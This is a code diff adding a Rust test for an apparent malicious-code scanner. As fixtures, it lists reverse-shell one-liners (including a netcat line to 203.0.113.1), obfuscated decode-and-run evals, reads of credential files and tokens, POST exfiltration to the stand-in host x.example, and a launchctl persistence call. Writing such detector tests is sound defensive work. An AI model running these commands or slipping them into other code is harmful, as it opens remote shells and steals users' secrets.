@@ -212,3 +212,51 @@ fn fish_source_reads_a_download_as_a_pipe_to_shell_does() {
     );
     assert_eq!(fired(&[("x.sh", "git log | source-highlight -s sh\ncurl -s https://x.example | sourcemap\n")]), []);
 }
+
+#[test]
+fn more_languages_and_stores_are_recognised() {
+    let critical = [
+        ("a.pl", "eval pack('H*', '73797374656d28)');\n", "exec.decode-and-run"),
+        ("a.py", "os.system(urllib.parse.unquote(CMD))\n", "exec.decode-and-run"),
+        (
+            "a.sh",
+            "c=$(printf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20')\necho hi\neval \"$c\"\n",
+            "exec.decode-and-run",
+        ),
+        ("a.sh", "unzip -o a.zip -d /tmp/p && sh /tmp/p/setup.sh\n", "exec.decode-and-run"),
+        ("a.sh", "cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.1 9001 > /tmp/f\n", "exec.reverse-shell"),
+        ("a.rb", "exec sprintf('/bin/sh -i <&%d >&%d 2>&%d', f, f, f)\n", "exec.reverse-shell"),
+        ("a.pl", "socket(S, PF_INET, SOCK_STREAM, 6);\nopen(STDIN, '>&S');\n", "exec.reverse-shell"),
+        ("a.ps1", "$c = New-Object Net.Sockets.TCPClient('h', 1)\n$o = (iex $d 2>&1)\n", "exec.reverse-shell"),
+    ];
+    for (path, text, rule) in critical {
+        assert_eq!(fired(&[(path, text)]), [(rule, Severity::Critical)], "{text:?}");
+    }
+    let send = ("send.sh", "curl -s -F f=@/tmp/x https://x.example/u\n");
+    for (path, text) in [
+        ("a.sh", "cp $HOME/.npmrc /tmp/x\n"),
+        ("a.py", "p = os.path.expanduser('~/.config/gcloud/application_default_credentials.json')\n"),
+        ("a.js", "fs.readFileSync(path.join(os.homedir(), '.kube', 'config'))\n"),
+        ("a.sh", "T=$(gh auth token)\n"),
+        ("a.rb", "data = File.read('.env')\n"),
+        ("a.py", "found = {k: v for k, v in os.environ.items() if k.startswith('AWS_')}\n"),
+    ] {
+        assert_eq!(fired(&[(path, text)]), [("secrets.read", Severity::Medium)], "{text:?}");
+        assert_eq!(fired(&[(path, text), send]), [("secrets.exfiltrate", Severity::High)], "{text:?}");
+    }
+    for channel in [
+        "LWP::UserAgent->new->post('https://x.example/c', Content => $cfg);\n",
+        "req = urllib.request.Request('https://x.example/u', data=blob, method='POST')\n",
+        "urllib.request.urlopen(url, payload)\n",
+    ] {
+        let report = fired(&[("a.sh", "cat ~/.aws/credentials\n"), ("b.txt", channel)]);
+        assert_eq!(report, [("secrets.exfiltrate", Severity::High)], "{channel:?}");
+    }
+    let benign = "urllib.request.urlopen(url, timeout=5)\nprintf '\\x1b[31mred\\x1b[0m\\n'\neval \"$(ssh-agent -s)\"\n\
+                  open(STDERR, '>&STDOUT');\ntar xzf cli.tar.gz -C vendor\n$c = New-Object Net.Sockets.TcpClient('h', 443)\n";
+    assert_eq!(fired(&[("a.sh", "cat ~/.aws/credentials\n"), ("b.txt", benign)]), [("secrets.read", Severity::Medium)]);
+    assert_eq!(
+        fired(&[("a.py", "subprocess.run(['launchctl', 'load', '-w', path])\n")]),
+        [("persist.launch-agent", Severity::High)]
+    );
+}
